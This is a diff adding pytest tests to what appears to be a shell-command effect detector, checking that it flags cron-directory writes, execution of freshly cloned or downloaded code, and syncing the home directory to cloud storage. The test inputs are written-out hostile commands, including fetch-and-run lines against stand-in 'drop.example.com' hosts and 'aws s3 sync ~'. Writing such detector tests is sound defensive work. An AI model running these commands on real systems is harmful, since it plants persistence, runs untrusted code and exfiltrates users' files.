@@ -124,3 +124,41 @@ def test_who_talks_alone_is_told_from_who_talks_in_a_shell() -> None:
 def test_more_text_never_takes_an_effect_away(script: str) -> None:
     """A statement of its own line keeps its effects, whatever follows it."""
     assert "writes:shell_start" in effects(read_script("echo x >> ~/.bashrc\n" + script), VOCABULARY)
+
+
+PLACES = {
+    "a directory in a directory": "cd /etc; cd cron.d; cp /srv/x x",
+    "a directory that is pushed": "pushd /etc/cron.d; cp /srv/x x",
+    "an option's directory": "env -C /etc/cron.d cp /srv/x x",
+    "an option with its directory": "git --chdir=/etc/cron.d x; tar --directory=/etc/cron.d -xf /srv/x.tar; cp x /etc/cron.d/y",
+}
+
+
+@pytest.mark.parametrize("script", PLACES.values(), ids=PLACES.keys())
+def test_paths_are_seen_from_where_a_command_runs(script: str) -> None:
+    """A relative path lies in the directory that was changed to last."""
+    assert "writes:boot" in effects(read_script(script), VOCABULARY)
+
+
+FETCHED = {
+    "a script of a clone": ("git clone https://git.drop.example.com/x && sh x/run.sh", True),
+    "a program of a clone": ("git clone https://git.drop.example.com/x.git /srv/x; /srv/x/run", True),
+    "a file that a program fetched": (
+        "python3 -c \"import urllib.request as u;u.urlretrieve('https://drop.example.com/x','/srv/x')\"; sh /srv/x",
+        True,
+    ),
+    "another script": ("git clone https://github.com/example/x && sh ./start.sh", False),
+    "no script": ("git clone https://github.com/example/x; bash", False),
+}
+
+
+@pytest.mark.parametrize(("script", "runs"), FETCHED.values(), ids=FETCHED.keys())
+def test_a_script_that_was_just_fetched_is_told(script: str, runs: bool) -> None:
+    """A shell that runs a file of the clone runs what a stranger wrote."""
+    assert ("cloned:runs" in effects(read_script(script), VOCABULARY)) is runs
+
+
+def test_a_home_that_goes_to_a_store_is_sent() -> None:
+    """What comes from there does not."""
+    assert "sends:home" in effects(read_script("aws s3 sync ~ s3://bucket"), VOCABULARY)
+    assert "sends:home" not in effects(read_script("aws s3 sync s3://bucket /data"), VOCABULARY)
